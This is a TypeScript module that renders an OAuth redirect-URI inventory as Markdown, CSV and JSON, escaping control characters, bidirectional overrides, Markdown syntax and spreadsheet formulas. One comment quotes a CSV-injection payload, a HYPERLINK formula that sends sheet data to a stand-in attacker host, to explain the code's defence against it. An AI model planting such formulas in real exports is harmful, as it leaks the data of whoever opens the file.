import type {
  InventoryClient,
  InventoryEntry,
  RedirectReport,
  ReportFlag,
  ReportFlagCode,
} from './redirect-report.js';
import { REPORT_FLAG_CODES } from './redirect-report.js';

/**
 * The redirect inventory as a reviewer receives it: Markdown to read and attach to an approval,
 * CSV for a spreadsheet, JSON for tools. Client names and URIs come from whoever registered them
 * (dynamic registration is open to anyone in some environments), so every cell is escaped for
 * the format it lands in.
 */
export const REPORT_FORMATS = ['md', 'json', 'csv'] as const;
export type ReportFormat = (typeof REPORT_FORMATS)[number];

export const REPORT_MEDIA_TYPES: Record<ReportFormat, string> = {
  md: 'text/markdown; charset=utf-8',
  json: 'application/json; charset=utf-8',
  csv: 'text/csv; charset=utf-8',
};

export function formatRedirectReport(report: RedirectReport, format: ReportFormat): string {
  if (format === 'json') return reportJson(report);
  if (format === 'csv') return reportCsv(report);
  return reportMarkdown(report);
}

/** The file name a download is offered under. */
export function reportFileName(report: RedirectReport, format: ReportFormat): string {
  const safe = report.environment.replace(/[^A-Za-z0-9_.-]/g, '_');
  return `redirect-inventory-${safe}-${isoDay(report.generatedAt)}.${format}`;
}

/**
 * What a terminal or a renderer acts on instead of showing: C0 and C1 controls and DEL (ESC and the
 * 8-bit CSI drive a terminal the report is printed on), line and paragraph separators, and the
 * bidirectional marks, embeddings, overrides and isolates (U+202E in a client name reorders the
 * text after it, so a reviewer reads another URI than the one registered: "Trojan Source").
 */
// eslint-disable-next-line no-control-regex -- control characters are exactly what is matched
const INVISIBLE = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/g;

const NAMED: Record<string, string> = { '\t': '\\t', '\n': '\\n', '\r': '\\r' };

/** Each of those as a visible escape (`\n`, `\x1b`, `\u202e`), so the reviewer sees it is there. */
export function visible(text: string): string {
  return text.replace(INVISIBLE, (c) => {
    const named = NAMED[c];
    if (named !== undefined) return named;
    const code = c.charCodeAt(0);
    return code <= 0xff
      ? `\\x${code.toString(16).padStart(2, '0')}`
      : `\\u${code.toString(16).padStart(4, '0')}`;
  });
}

/**
 * JSON as JSON.stringify writes it leaves DEL, the C1 controls and the bidirectional controls raw;
 * as \uXXXX escapes the file parses back to the same strings and is safe to print.
 */
function reportJson(report: RedirectReport): string {
  return `${JSON.stringify(report, null, 2).replace(
    /[\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/g,
    (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
  )}\n`;
}

const iso = (at: number | null): string => (at === null ? '' : new Date(at).toISOString());
const isoDay = (at: number): string => new Date(at).toISOString().slice(0, 10);

const FLAG_TITLES: Record<ReportFlagCode, string> = {
  unused: 'Unused',
  localhost_loopback: 'Loopback "localhost"',
  wildcard: 'Wildcard',
  http_not_loopback: 'http, not loopback',
  loopback_for_web_client: 'Loopback for a web client',
  violates_policy: "Violates today's policy",
  expiring_soon: 'Expiring soon',
  promotion_drift: 'Promotion drift',
};

// ---- CSV (RFC 4180) ----

/**
 * A spreadsheet runs a cell starting with = + - @ (or a tab or CR before one) as a formula:
 * `=HYPERLINK("https://evil.example/?"&A1)` in a client name would send the sheet's data away
 * when opened. Such a cell gets a leading ' so it is read as text (OWASP "CSV injection").
 * Where the list separator is `;` (much of Europe), the spreadsheet opening this file splits cells
 * at every `;` instead, quotes or not: `Shop;=HYPERLINK(...)` becomes a cell starting with `=`.
 * So a `;` before a formula character gets the same ' after it.
 */
export function neutralisedCell(text: string): string {
  const lead = /^[\t\r\n]|^[\s"]*[=+\-@]/.test(text) ? `'${text}` : text;
  return lead.replace(/;(?=[\s"]*[=+\-@])/g, ";'");
}

function csvCell(value: string | number): string {
  if (typeof value === 'number') return String(value);
  // One line per row: a line break or control character in a name is shown, not kept.
  const text = neutralisedCell(visible(value));
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

const CSV_COLUMNS = [
  'environment',
  'client_id',
  'client_name',
  'client_type',
  'client_kind',
  'promoted_from',
  'kind',
  'uri',
  'class',
  'loopback_host',
  'expires_at',
  'registered_at',
  'registered_by',
  'channel',
  'last_used_at',
  'uses',
  'requests',
  'near_misses',
  'flags',
  'reasons',
] as const;

function csvRow(
  report: RedirectReport,
  client: InventoryClient,
  entry: InventoryEntry | undefined,
  flags: readonly ReportFlag[],
): string {
  const cells: (string | number)[] = [
    report.environment,
    client.clientId,
    client.name,
    client.type,
    client.kind,
    client.promotedFrom ?? '',
    entry?.kind ?? 'client',
    entry?.uri ?? '',
    entry?.class ?? '',
    entry?.loopbackHost ?? '',
    iso(entry?.expiresAt ?? null),
    iso(entry?.registeredAt ?? null),
    entry?.registeredByLabel ?? '',
    entry?.channel ?? '',
    iso(entry?.lastUsedAt ?? null),
    entry?.uses ?? '',
    entry?.requests ?? '',
    entry?.nearMisses ?? '',
    flags.map((f) => f.code).join(' '),
    [
      ...flags.map((f) => f.reason),
      // The client's row: refused requests that point at none of its URIs.
      ...(entry === undefined && client.otherRefusals > 0
        ? [`${client.otherRefusals} refused requests close to none of its URIs`]
        : []),
    ].join(' | '),
  ];
  return cells.map(csvCell).join(',');
}

/** One row per registered URI, and one per client holding client-level findings. */
function reportCsv(report: RedirectReport): string {
  const rows = [CSV_COLUMNS.join(',')];
  for (const client of report.clients) {
    for (const entry of client.entries) rows.push(csvRow(report, client, entry, entry.flags));
    if (client.flags.length > 0 || client.otherRefusals > 0)
      rows.push(csvRow(report, client, undefined, client.flags));
  }
  return `${rows.join('\r\n')}\r\n`;
}

// ---- Markdown (CommonMark + GFM tables) ----

/**
 * Text inside a line (a table cell, after a list marker or heading marker): what Markdown or HTML
 * would read as syntax there escaped (emphasis, code, strikethrough, inline links and images,
 * tags and autolinks, entities, table pipes), on one line. Intraword underscores are left as they
 * are: CommonMark never reads them as emphasis, and client IDs are full of them.
 */
export function mdText(text: string): string {
  // A line break would end the line; any other control is shown.
  return visible(text.replace(/[\t\n\r]+/g, ' '))
    .replace(/[\\`*|~]/g, (c) => `\\${c}`)
    .replace(/(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])/g, '\\_')
    .replace(/\]\(/g, '\\](')
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;');
}

/** A URI as code in a table cell: a fence longer than any backtick run inside, `|` escaped. */
function mdCode(text: string): string {
  const line = visible(text.replace(/[\t\n\r]+/g, ' ')).replace(/\|/g, '\\|');
  const longest = Math.max(0, ...(line.match(/`+/g) ?? []).map((run) => run.length));
  const fence = '`'.repeat(longest + 1);
  const pad = line.startsWith('`') || line.endsWith('`') ? ' ' : '';
  return `${fence}${pad}${line}${pad}${fence}`;
}

function lastUse(entry: InventoryEntry): string {
  return entry.lastUsedAt === null ? 'never' : iso(entry.lastUsedAt);
}

function registration(entry: InventoryEntry): string {
  const when = entry.registeredAt === null ? 'unknown date' : iso(entry.registeredAt);
  const who = entry.registeredByLabel === null ? '' : ` by ${mdText(entry.registeredByLabel)}`;
  return `${mdText(entry.channel)}${who}, ${when}`;
}

function entryClass(entry: InventoryEntry): string {
  const kind = entry.loopbackHost === null ? entry.class : `loopback ${entry.loopbackHost}`;
  const expiry = entry.expiresAt === null ? '' : `, expires ${iso(entry.expiresAt)}`;
  return mdText(`${kind}${expiry}`);
}

function reportMarkdown(report: RedirectReport): string {
  const lines: string[] = [
    `# Redirect inventory: ${mdText(report.environment)}`,
    '',
    `Environment ${mdText(report.environment)} (${report.tier} tier), generated ${iso(report.generatedAt)}. Loopback hosts allowed: ${mdText(report.loopbackHosts.join(', '))}. Unused: no use for ${report.unusedDays} days; expiring soon: within ${report.expiringDays} days.`,
    '',
    `${report.summary.clients} ${report.summary.clients === 1 ? 'client' : 'clients'}, ${report.summary.redirectUris} redirect URIs, ${report.summary.postLogoutUris} post-logout URIs.`,
    '',
    '| Flag | Count |',
    '| --- | ---: |',
    ...REPORT_FLAG_CODES.map((code) => `| ${FLAG_TITLES[code]} | ${report.summary.flags[code]} |`),
  ];
  for (const client of report.clients) {
    const origin = [
      `${client.type} client`,
      client.kind === 'registered' ? undefined : client.kind.replace('_', ' '),
      client.managedBy === null
        ? undefined
        : `managed by the declarative file (${client.managedBy})`,
      client.promotedFrom === null ? undefined : `promoted from ${client.promotedFrom}`,
    ].filter((part) => part !== undefined);
    lines.push(
      '',
      `## ${mdText(client.name)} (${mdCode(client.clientId)})`,
      '',
      mdText(origin.join(', ')),
      '',
    );
    if (client.entries.length === 0) lines.push('No registered URIs.');
    else
      lines.push(
        '| Kind | URI | Class | Registered | Last used | Uses | Requests | Near misses | Flags |',
        '| --- | --- | --- | --- | --- | ---: | ---: | ---: | --- |',
        ...client.entries.map(
          (entry) =>
            `| ${entry.kind === 'redirect' ? 'redirect' : 'post-logout'} | ${mdCode(entry.uri)} | ${entryClass(entry)} | ${registration(entry)} | ${lastUse(entry)} | ${entry.uses} | ${entry.requests} | ${entry.nearMisses} | ${entry.flags.map((f) => f.code).join(', ')} |`,
        ),
      );
    const findings = [
      ...client.entries.flatMap((entry) =>
        entry.flags.map(
          (f) => `- ${mdCode(entry.uri)}: **${FLAG_TITLES[f.code]}**: ${mdText(f.reason)}`,
        ),
      ),
      ...client.flags.map((f) => `- **${FLAG_TITLES[f.code]}**: ${mdText(f.reason)}`),
    ];
    if (client.otherRefusals > 0)
      findings.push(
        `- ${client.otherRefusals} refused ${client.otherRefusals === 1 ? 'request' : 'requests'} close to none of these URIs`,
      );
    if (findings.length > 0) lines.push('', ...findings);
  }
  return `${lines.join('\n')}\n`;
}
